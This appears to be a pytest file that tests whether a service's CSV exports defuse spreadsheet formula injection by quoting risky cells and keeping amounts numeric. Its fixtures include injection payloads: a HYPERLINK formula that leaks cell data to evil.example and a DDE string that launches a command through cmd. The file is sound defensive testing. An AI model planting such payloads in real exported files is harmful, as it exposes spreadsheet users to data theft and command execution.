"""No CSV the service writes holds a cell a spreadsheet program would run as a formula.

Each file is read as a spreadsheet program reads it: RFC 4180 fields (Python's csv module), then
the first character of each cell: `=`, `+`, `-`, `@`, tab or carriage return start a formula,
unless the cell is a plain number. Injected cells must arrive as text with a leading quote
(OWASP's advice), and amounts, negative ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from app.audit.spreadsheet import spreadsheet_safe, spreadsheet_text
from tests.controls import ADMIN, ADMIN_TOKEN, change, create, new_click
from tests.reconciliation.controls import statement, uploaded

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formulas(rows: list[list[str]]) -> list[str]:
    starts = ("=", "+", "-", "@", "\t", "\r")
    return [c for row in rows for c in row if c[:1] in starts and not _NUMBER.fullmatch(c)]


@pytest.mark.parametrize(
    ("written", "shown"),
    [(HYPERLINK, "'" + HYPERLINK), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("-15.00", "-15.00"), ("+3", "+3"), ("o-1", "o-1"), ("", "")],
)  # fmt: skip
def test_a_cell_starting_a_formula_is_quoted_and_a_number_is_left_a_number(written, shown):
    assert spreadsheet_safe(written) == shown


@pytest.mark.parametrize(
    "text", [HYPERLINK, "-abc", "'-abc", "''=2", "'plain", "'", "-15.00", "o-1", "\t=1", ""]
)
def test_a_written_cell_reads_back_as_the_text_it_was(text):
    """Reading our own CSV back (a statement that is our export) gives the original text, also
    for text that already began with quotes before a formula character."""
    assert spreadsheet_text(spreadsheet_safe(text)) == text


def test_the_reconciliation_report_csv_holds_no_formula(demo, services):
    body = statement([[HYPERLINK, "new"], ["@SUM(A1)", "new"]], ["exto", "status"])
    run = uploaded(demo, body)

    response = demo.get(f"/api/reconciliations/{run['id']}/lines.csv", headers=ADMIN)

    rows = cells(response.text)
    assert formulas(rows) == []
    assert [row[rows[0].index("exto")] for row in rows[1:3]] == ["'" + HYPERLINK, "'@SUM(A1)"]


def test_the_leads_export_holds_no_formula(demo, services):
    create(demo, flow="101", exto="=1+2")
    services.runner.catch_up()

    response = demo.get("/api/exports/leads", params={"advertiser": "adv-1"}, headers=ADMIN)

    rows = cells(response.text)
    assert response.status_code == 200 and formulas(rows) == []
    assert rows[1][rows[0].index("exto")] == "'=1+2"


def test_a_support_download_keeps_a_negative_amount_a_number(demo, services):
    click = new_click(demo, flow="cc-traffic", sub1="=HYPERLINK(1)")
    lead_id = create(demo, click=click, exto="-5+1").json()["id"]
    change(demo, click=click, status="approve")
    change(demo, click=click, status="cancel")
    services.runner.catch_up()
    demo.cookies.set("ledger_admin", ADMIN_TOKEN)

    history = cells(demo.get(f"/support/leads/{lead_id}/history.csv").text)
    entries = cells(demo.get(f"/support/leads/{lead_id}/entries.csv").text)

    assert formulas(history) == [] and formulas(entries) == []
    amounts = [row[entries[0].index("holder_amount")] for row in entries[1:]]
    assert any(amount.startswith("-") for amount in amounts), amounts
    assert all(_NUMBER.fullmatch(amount) for amount in amounts), amounts
